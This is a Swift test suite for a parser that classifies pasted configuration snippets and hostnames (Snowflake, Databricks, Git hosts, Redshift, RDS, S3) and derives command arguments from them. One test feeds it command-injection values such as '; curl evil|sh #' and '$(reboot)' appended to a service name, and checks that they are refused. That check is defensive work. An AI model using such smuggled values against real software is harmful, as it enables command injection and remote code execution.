import Foundation
import Links
import Testing
import Text

/// What the reader without a kind makes of what people send.
@Suite struct PastedReaders {
  private func read(_ text: String) throws -> [PastedReading] {
    try PastedReader.readings(Array(text.utf8), file: "paste")
  }

  private func kinds(_ text: String) throws -> [PastedKind] { try read(text).map(\.kind) }

  private static let config = #"{"privatelink-account-url": "qx1.us-east-1.privatelink.snowflakecomputing.com"}"#

  /// A paste, its kind, and what its command is given beside it.
  static let pastes: [(text: String, kind: PastedKind, words: String)] = [
    (config, .snowflake, ""),
    ("Hi,\n> \(config)\nBo", .snowflake, ""),
    ("```json\n\(config)\n```", .snowflake, ""),
    (#"{\"privatelink-account-url\": \"qx1.us-east-1.privatelink.snowflakecomputing.com\"}"#, .snowflake, ""),
    ("KEY,VALUE\nprivatelink-vpce-id,\(serviceName)\n", .snowflake, ""),
    (#"[{"type":"SNOWFLAKE_DEPLOYMENT","host":"a-b.privatelink.snowflakecomputing.com","port":443}]"#, .snowflake, ""),
    ("https://qx1.us-east-1.privatelink.snowflakecomputing.com/console", .snowflake, ""),
    ("SYSTEM$GET_PRIVATELINK_CONFIG()", .snowflake, ""),
    (#"{"snowflake-vpc-id": ["vpc-1"]}"#, .snowflake, ""),
    (
      "https://dbc-a1b2c3d4-e5f6.cloud.databricks.com/?o=1234567890", .databricks,
      "--workspace-id 1234567890 dbc-a1b2c3d4-e5f6.cloud.databricks.com"
    ),
    ("adb-1234.5.azuredatabricks.net", .databricks, "adb-1234.5.azuredatabricks.net"),
    (
      "- Workspace URL: `https://1234.5.gcp.databricks.com/`\n- Region: us-east-1\n", .databricks,
      "--region us-east-1 1234.5.gcp.databricks.com"
    ),
    (
      "Workspace URL: dbc-a1.cloud.databricks.com\nWorkspace ID: 987\nAWS region: eu-west-1\n", .databricks,
      "--workspace-id 987 --region eu-west-1 dbc-a1.cloud.databricks.com"
    ),
    (
      "Please add dbc-a1.cloud.databricks.com, thanks.\n-- \nBo\nwww.acme.example\n", .databricks,
      "dbc-a1.cloud.databricks.com"
    ),
    ("git@gitlab.corp.example:team/repo.git", .vcs, "--product gitlab gitlab.corp.example"),
    ("ssh://git@scm.corp.example:7999/a/b.git", .vcs, "ssh://scm.corp.example:7999"),
    ("https://code.corp.example/team/repo.git", .vcs, "code.corp.example"),
    ("github.corp.example", .vcs, "--product github github.corp.example"),
    ("* bitbucket.corp.example", .vcs, "--product bitbucket bitbucket.corp.example"),
    (
      "jdbc:redshift://wh.abc.us-east-1.redshift.amazonaws.com:5439/dev", .redshift,
      "wh.abc.us-east-1.redshift.amazonaws.com:5439"
    ),
    (
      "wh-endpoint-x.abc.us-east-1.redshift.amazonaws.com:5439/dev", .redshift,
      "wh-endpoint-x.abc.us-east-1.redshift.amazonaws.com:5439"
    ),
    (
      "postgres://app@orders.abc.us-east-1.rds.amazonaws.com:5432/orders", .postgres,
      "orders.abc.us-east-1.rds.amazonaws.com:5432"
    ),
    (
      "Host: orders.cluster-ro-abc.us-east-1.rds.amazonaws.com\nEngine: Aurora PostgreSQL\n", .postgres,
      "orders.cluster-ro-abc.us-east-1.rds.amazonaws.com"
    ),
    ("orders.abc.us-east-1.rds.amazonaws.com:3306", .mysql, "orders.abc.us-east-1.rds.amazonaws.com:3306"),
    ("s3://acme-exports/daily", .s3, "acme-exports"),
    ("arn:aws:s3:::acme-exports", .s3, "acme-exports"),
    ("acme-exports.s3.eu-west-1.amazonaws.com", .s3, "--region eu-west-1 acme-exports"),
    ("https://s3.eu-west-1.amazonaws.com/acme-exports/x", .s3, "--region eu-west-1 acme-exports"),
    ("Bucket: acme-exports\nRegion: eu-west-1\n", .s3, "--region eu-west-1 acme-exports"),
    ("git.corp.example\nwiki.corp.example # the wiki\n", .hosts, "git.corp.example wiki.corp.example"),
    (
      "- wiki.corp.example\n- Internal host name: sso.corp.example:8443\n", .hosts,
      "wiki.corp.example sso.corp.example:8443"
    ),
    ("host,port\na.corp.example,443\nb.corp.example,443\n", .hosts, "a.corp.example:443 b.corp.example:443"),
    (#"["a.corp.example", "b.corp.example"]"#, .hosts, "a.corp.example b.corp.example"),
    (#"[{"host": "a.corp.example", "port": 443}]"#, .hosts, "a.corp.example:443"),
    (
      "10.1.2.3 a.corp.example a\n10.1.2.3 b.corp.example\n", .hosts, "--address 10.1.2.3 a.corp.example b.corp.example"
    ),
    ("https://wiki.corp.example/x?y=z", .hosts, "wiki.corp.example"),
  ]

  @Test(arguments: pastes.indices) func eachPasteIsTakenForWhatItIs(index: Int) throws {
    let (text, kind, words) = Self.pastes[index]
    let readings = try read(text)
    #expect(readings.map(\.kind) == [kind], "\(text): \(readings.map(\.why))")
    let first = try #require(readings.first)
    let given =
      first.flags.flatMap { [$0.name, $0.value] }
      + first.operands.map { $0.hasPrefix("https://wiki") ? "wiki.corp.example" : $0 }
    #expect(given.joined(separator: " ") == words, "\(text)")
    #expect(!first.why.isEmpty && first.remark.hasPrefix("taken for \(kind.text): "))
  }

  @Test(arguments: [
    ("git.corp.example", [PastedKind.vcs, .hosts]),
    ("orders.abc.us-east-1.rds.amazonaws.com", [.postgres, .mysql]),
    ("\(config)\nand https://dbc-a1.cloud.databricks.com", [.snowflake, .databricks]),
    ("dbc-a1.cloud.databricks.com\nwh.abc.us-east-1.redshift.amazonaws.com", [.databricks, .redshift]),
    ("gitlab.corp.example\nwiki.corp.example", [.hosts]),
  ]) func whereTwoReadingsArePossibleBothAreThere(text: String, expected: [PastedKind]) throws {
    #expect(try kinds(text) == expected)
  }

  private static let form = """
    Subject: New Multi-Tenant PrivateLink Request
    - Type: VCS Interface-type
    - VPC Endpoint Service Name: \(serviceName)
    - Custom DNS (if HTTPS)
        - Private hosted zone: ZONE
        - DNS record: RECORD
    - VCS install AWS Region (for example, us-east-1, eu-west-2): us-east-1
    - dbt AWS multi-tenant environment (US, EMEA, AU): US

    """

  private func form(_ zone: String, _ record: String) -> String {
    Self.form.filling(["Z": "Z"]).split(separator: "\n", omittingEmptySubsequences: false).map { line in
      line.hasSuffix("ZONE")
        ? line.dropLast(4) + zone : line.hasSuffix("RECORD") ? line.dropLast(6) + record : line[...]
    }.joined(separator: "\n")
  }

  @Test func theFormOfSection7IsRead() throws {
    for (zone, record) in [("corp.example", "wiki.corp.example"), ("corp.example", "wiki"), ("", "wiki.corp.example")] {
      let reading = try #require(try read(form(zone, record)).first)
      #expect(reading.kind == .vcs && reading.operands == ["wiki.corp.example"], "\(reading.operands)")
      #expect(reading.input != nil)
    }
    let ssh = try #require(try read(form("", "")).first)
    #expect(ssh.kind == .vcs && ssh.operands.isEmpty && ssh.input != nil)
    #expect(refusal { _ = try read(form("corp.example", "<host>")) }.contains("placeholder"))
  }

  @Test func trap15AnEndpointInAPasteIsNoHost() throws {
    let readings = try read("\(vpce)\nwiki.corp.example\n")
    #expect(readings.first?.operands == ["wiki.corp.example"])
    #expect(readings.first?.notes.contains { $0.hasPrefix(vpce) && $0.contains("--endpoint") } == true)
  }

  @Test func whatIsNoServiceStandsInNoCommand() {
    for end in ["; curl evil|sh #", "$(reboot)", "`id`"] {
      let service = "com.amazonaws.vpce.us-east-1.vpce-svc-0\(end)"
      for text in [
        "{\"Service name\": \"\(service)\"}", service, "Service: \(service)",
        form("", "").replacing(serviceName, with: service),
      ] {
        let said = refusal { _ = try read(text) }
        #expect(!said.isEmpty && !said.contains("--service \(service)"), "\(said)")
      }
    }
  }

  @Test func trap07PlaceholdersAreRefused() {
    #expect(refusal { _ = try read("your-org.corp.example") }.contains("still holds the placeholder"))
  }

  @Test func utf16IsRead() throws {
    for isBig in [false, true] {
      let bytes = Array("\u{feff}wiki.corp.example\r\n".utf16).flatMap { unit in
        isBig ? [UInt8(unit >> 8), UInt8(unit & 255)] : [UInt8(unit & 255), UInt8(unit >> 8)]
      }
      let reading = try #require(try PastedReader.readings(bytes, file: "paste").first)
      #expect(reading.operands == ["wiki.corp.example"] && reading.notes.first?.hasPrefix("UTF-16") == true)
    }
  }

  /// Whatever is pasted, there is an answer, and soon.
  @Test func anyInputEnds() {
    for unit in [
      "\"", "|\n", "[", "{\"a\":", ",", "\n", "\\", "a.b\n", "a: ", "- ", "* ", "> ", "```\n", "a.b ", "=", "é", "'",
      "1. ",
    ] {
      for start in ["", "{\"a\": \"", "host: ", "privatelink-x: ", "- "] {
        let text = start + String(repeating: unit, count: 20_000 / unit.utf8.count)
        _ = refusal { _ = try read(text) }
        _ = refusal { _ = try importSnowflake(text) }
      }
    }
  }

  /// Each names a command, a flag or a value that goes on.
  @Test func everyRefusalNamesARemedy() throws {
    let golden = try String(contentsOf: fixtures.appendingPathComponent("refused/messages.txt"), encoding: .utf8)
    var messages = golden.split(separator: "\n").map { String($0) }
    let account = #""privatelink-account-url": "qx1.us-east-1.privatelink.snowflakecomputing.com""#
    for value in [
      #""privatelink-account-name": "a b""#, #""privatelink-vpce-id": "x""#,
      #""snowsight-privatelink-url": "*.snowflake.app""#,
      #""snowsight-privatelink-url": "a..b""#, #""snowsight-privatelink-url": "vpce-svc-1""#,
      #""privatelink-account-name" "x""#,
      #""privatelink-account-name": x"#, #""privatelink-account-name": "zz.us-east-1.privatelink""#,
    ] { messages.append(refusal { _ = try importSnowflake("{\(account), \(value)}") }) }
    for endpoint in [
      "qx1.privatelink.snowflakecomputing.com", "vpce-0ff-st.s3.us-east-1.vpce.amazonaws.com",
      "vpce-0ff-st.vpce-svc-0123456789abcdef0.us-west-2.vpce.amazonaws.com",
    ] {
      messages.append(
        refusal {
          _ = try importSnowflake("{\(account), \"privatelink-vpce-id\": \"\(serviceName)\"}", endpoint: endpoint)
        })
    }
    for stage in [vpce, "bucket.vpce-0ff-st.s3.us-west-2.vpce.amazonaws.com"] {
      messages.append(
        refusal {
          _ = try importSnowflake(
            "{\(account), \"privatelink-internal-stage\": \"sfc-x-customer-stage.s3.us-east-1.amazonaws.com\"}",
            stage: stage)
        })
    }
    messages.append(refusal { _ = try importSnowflake(String(repeating: "x", count: 1 << 21)) })
    messages.append(refusal { _ = try importSnowflake("[{\"type\": \"STAGE\", \"host\": \"x\", \"port\": 1}]") })
    for paste in [
      "", " \n", "Hello\nthere\n", serviceName, #"{"VpcEndpoints": []}"#,
      "https://qx1.us-east-1.snowflakecomputing.com",
      "your-org.corp.example", form("corp.example", "<x>"),
      form("corp.example", "a..b"),
      form("", "git.corp.example").split(separator: "\n").filter { !$0.contains("Type:") }.joined(separator: "\n"),
      "\u{1}", (0...10_000).map { "a\($0).corp.example\n" }.joined(),
    ] { messages.append(refusal { _ = try read(paste) }) }
    let remedies = [
      "backroad ", "--", "paste ", "run select ", "give ", "keep ", "copy ", "save ", "export it again", "flatten it",
      "write ",
      "remove ",
    ]
    for message in messages.flatMap({ $0.split(separator: "\n", omittingEmptySubsequences: false) }) {
      #expect(!message.isEmpty && remedies.contains { message.contains($0) }, "\(message)")
    }
  }
}
